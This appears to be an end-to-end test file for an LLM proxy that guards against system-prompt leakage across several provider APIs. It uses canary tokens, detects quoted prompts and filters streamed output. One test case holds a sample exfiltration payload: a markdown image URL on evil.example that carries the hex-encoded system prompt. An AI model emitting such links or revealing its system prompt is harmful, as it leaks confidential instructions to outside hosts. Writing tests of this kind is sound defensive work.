"""What models must not tell: the canary goes to every provider and comes back to nobody, nor does data in addresses."""

from __future__ import annotations

import http.client
import re
from collections.abc import Callable, Iterator
from typing import Any
from urllib.parse import urlsplit

import orjson
import pytest
from aiohttp import web

from tests.e2e.test_uniformity import DIALECTS, Dialect, _Always
from tests.harness import Product, Recorder, streamed

pytestmark = pytest.mark.e2e

POLICY = """
extends: preset/standard
disclose: full
leakage: {canary: true, hosts: [cdn.example]}
rules:
  - {id: quotes, when: {kind: SYSTEM_PROMPT, min_confidence: 0.8}, action: block}
"""
PROMPT = "You are Hartmut, the booking clerk of the Nordhafen ferry line, and the staff discount is GULL-4471."
SYSTEM: dict[str, Callable[[dict[str, Any]], object]] = {
    "openai chat": lambda body: body["messages"].insert(0, {"role": "system", "content": PROMPT}),
    "openai responses": lambda body: body.update(instructions=PROMPT),
    "anthropic": lambda body: body.update(system=PROMPT),
    "gemini": lambda body: body.update(systemInstruction={"parts": [{"text": PROMPT}]}),
}
with_a_system_prompt = pytest.mark.parametrize(
    "dialect", [dialect for dialect in DIALECTS if dialect.name in SYSTEM], ids=lambda dialect: dialect.name
)
Ask = Callable[..., tuple[int, str]]


def canary_in(asked: str) -> str:
    """The word behind the system prompt as the upstream has it."""
    (canary,) = re.findall(r"\(Reference of these instructions: ([a-z]{16})\.\)", asked)
    return str(canary)


@pytest.fixture(scope="module")
def product(any_dialect: Product) -> Product:
    any_dialect.policy(POLICY)
    return any_dialect


@pytest.fixture
def ask(product: Product, any_upstream: Recorder) -> Iterator[Ask]:
    """Ask behind a system prompt, of an upstream that answers by a function of what it was asked; return the answer."""
    connection = http.client.HTTPConnection(urlsplit(product.url).netloc, timeout=20)
    headers = {"x-promptshield-key": product.key, "Content-Type": "application/json"}
    any_upstream.received.clear()

    def ask_one(dialect: Dialect, answer: Callable[[str], str], **more: object) -> tuple[int, str]:
        async def script(request: web.Request, body: bytes) -> web.StreamResponse:
            said = answer(body.decode())
            if more.get("stream"):
                return await streamed(*said.split("|"))(request, body)
            asked = orjson.loads(body)
            echo = {"instructions": asked["instructions"]} if "instructions" in asked else {}
            return web.json_response({**dialect.answer(said), **echo})

        any_upstream.scripts = _Always(script)
        body = {**dialect.question("What does a ticket cost?"), **more}
        SYSTEM[dialect.name](body)
        connection.request("POST", dialect.path, orjson.dumps(body), headers)
        response = connection.getresponse()
        return response.status, response.read().decode()

    yield ask_one
    any_upstream.scripts = {}
    connection.close()


@with_a_system_prompt
def test_a_model_that_tells_its_canary_is_not_heard(dialect: Dialect, ask: Ask, any_upstream: Recorder) -> None:
    status, told = ask(dialect, lambda asked: f"My reference? {canary_in(asked)}")
    assert status == 400
    assert "system_prompt_leak" in told
    assert canary_in(any_upstream.received[-1].body.decode()) not in told


@with_a_system_prompt
def test_ordinary_answers_pass_and_hold_nothing_of_it(dialect: Dialect, ask: Ask, any_upstream: Recorder) -> None:
    said = "Forty euros: [timetable](https://ferry.example/times?day=monday) ![map](https://cdn.example/m.png)"
    status, told = ask(dialect, lambda _: said)
    assert status == 200
    assert said in told
    assert canary_in(any_upstream.received[-1].body.decode()) not in told
    assert "Reference of these" not in told


def test_nothing_of_it_leaves_in_a_stream(ask: Ask) -> None:
    answer = "{}It is |{}| indeed".format
    status, told = ask(DIALECTS[0], lambda asked: answer("Well, then. " * 40, "|".join(canary_in(asked))), stream=True)
    assert status == 200
    assert '"code":"content_filter"' in told
    assert "Well, then." in told
    assert "It is" not in told


@pytest.mark.parametrize(
    "said", [f"Sure: {PROMPT}", f"Done. ![](https://evil.example/{PROMPT.encode().hex()}.png)"], ids=["quote", "image"]
)
def test_neither_the_prompt_nor_an_image_that_carries_it_is_shown(said: str, ask: Ask) -> None:
    status, told = ask(DIALECTS[0], lambda _: said)
    assert status == 400
    assert "Nordhafen" not in told
